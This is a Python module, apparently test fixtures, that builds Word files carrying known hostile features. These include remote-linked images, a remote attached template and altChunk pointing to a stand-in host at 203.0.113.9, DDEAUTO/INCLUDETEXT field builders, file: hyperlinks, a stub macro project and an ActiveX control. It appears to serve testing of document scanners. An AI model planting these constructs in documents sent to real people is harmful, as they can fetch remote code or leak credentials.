"""Word templates that reach outside the document or carry code, built from a plain python-docx file.

Each builder takes the bytes of a working .docx and returns them with one hostile part added, the
way Word itself writes it: an image *linked* (not embedded) to a local file or an http address, a
remote attached template, DDEAUTO and INCLUDETEXT fields, an external altChunk, a hyperlink to a
`file:` URL, a macro project (vbaProject.bin) and an ActiveX control.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PNG = bytes.fromhex(  # a 1x1 red PNG
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc0000003"
    "010100c9fe92ef0000000049454e44ae426082"
)


def plain_docx(paragraphs: list[str] | None = None) -> bytes:
    document = docx.Document()
    for text in paragraphs or ["A template."]:
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _edit(data: bytes, edits: dict[str, callable], add: dict[str, bytes] | None = None) -> bytes:
    """`data` with each named part passed through its edit function (a missing part starts as None), plus `add`."""
    source = zipfile.ZipFile(io.BytesIO(data))
    names = source.namelist()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in names:
            content = source.read(name)
            if name in edits:
                content = edits[name](content.decode()).encode()
            target.writestr(name, content)
        for name, edit in edits.items():
            if name not in names:
                target.writestr(name, edit(None).encode())
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def _rels(extra: str):
    def edit(xml: str | None) -> str:
        if xml is None:
            xml = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{RELS_NS}"></Relationships>'
        return xml.replace("</Relationships>", extra + "</Relationships>")

    return edit


RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


def _relationship(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def _body(snippet: str):
    def edit(xml: str) -> str:
        return re.sub(r"(<w:body>)", r"\1" + snippet.replace("\\", "\\\\"), xml, count=1)

    return edit


def _content_type(extension: str | None = None, override: tuple[str, str] | None = None):
    def edit(xml: str) -> str:
        if extension:
            xml = xml.replace(
                "<Default ", f'<Default Extension="{extension[0]}" ContentType="{extension[1]}"/><Default ', 1
            )
        if override:
            xml = xml.replace("</Types>", f'<Override PartName="{override[0]}" ContentType="{override[1]}"/></Types>')
        return xml

    return edit


def linked_image(data: bytes, target: str) -> bytes:
    """An inline picture whose bytes are fetched from `target` when the document is opened."""
    drawing = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<wp:extent cx="914400" cy="914400"/><wp:docPr id="99" name="Picture 99"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:nvPicPr><pic:cNvPr id="99" name="linked.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip xmlns:r="{R}" r:link="rIdLinked99"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r></w:p>"
    )
    return _edit(
        data,
        {
            "word/document.xml": _body(drawing),
            "word/_rels/document.xml.rels": _rels(_relationship("rIdLinked99", "image", target)),
        },
    )


def vml_picture(data: bytes, target: str, namespace: str = "urn:schemas-microsoft-com:vml") -> bytes:
    """An old-style (VML) picture whose bytes come from `target`; `namespace` is the declaration as written
    (a URI may be spelt with character references, e.g. "urn&#58;schemas-microsoft-com:vml")."""
    snippet = (
        f'<w:p><w:r><w:pict><q:shape xmlns:q="{namespace}" style="width:10pt;height:10pt">'
        f'<q:imagedata src="{target}"/></q:shape></w:pict></w:r></w:p>'
    )
    return _edit(data, {"word/document.xml": _body(snippet)})


def attached_template(data: bytes, target: str = "http://203.0.113.9/normal.dotm") -> bytes:
    def settings(xml: str) -> str:
        return re.sub(r"(<w:settings[^>]*>)", rf'\1<w:attachedTemplate xmlns:r="{R}" r:id="rIdTpl99"/>', xml, count=1)

    return _edit(
        data,
        {
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": _rels(_relationship("rIdTpl99", "attachedTemplate", target)),
        },
    )


def field(data: bytes, instruction: str, *, simple: bool = False) -> bytes:
    """A field in the body, as Word writes it: complex (fldChar/instrText) or `w:fldSimple`."""
    escaped = instruction.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    if simple:
        snippet = f'<w:p><w:fldSimple w:instr="{escaped}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    else:
        snippet = (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {escaped} </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    return _edit(data, {"word/document.xml": _body(snippet)})


def alt_chunk(data: bytes, target: str = "http://203.0.113.9/chunk.html") -> bytes:
    return _edit(
        data,
        {
            "word/document.xml": _body(f'<w:altChunk xmlns:r="{R}" r:id="rIdChunk99"/>'),
            "word/_rels/document.xml.rels": _rels(_relationship("rIdChunk99", "aFChunk", target)),
        },
    )


def hyperlink(data: bytes, target: str) -> bytes:
    link = f'<w:p><w:hyperlink xmlns:r="{R}" r:id="rIdLink99"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p>'
    return _edit(
        data,
        {
            "word/document.xml": _body(link),
            "word/_rels/document.xml.rels": _rels(_relationship("rIdLink99", "hyperlink", target)),
        },
    )


def macros(data: bytes) -> bytes:
    vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    return _edit(
        data,
        {
            "word/_rels/document.xml.rels": _rels(
                f'<Relationship Id="rIdVba99" Type="{vba}" Target="vbaProject.bin"/>'
            ),
            "[Content_Types].xml": _content_type(extension=("bin", "application/vnd.ms-office.vbaProject")),
        },
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504},
    )


def activex(data: bytes) -> bytes:
    control = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/control"
    part = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistPropertyBag"/>'
    )
    return _edit(
        data,
        {
            "word/_rels/document.xml.rels": _rels(
                f'<Relationship Id="rIdAx99" Type="{control}" Target="activeX/activeX1.xml"/>'
            ),
            "[Content_Types].xml": _content_type(
                override=("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
            ),
        },
        add={"word/activeX/activeX1.xml": part.encode()},
    )


def save(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path
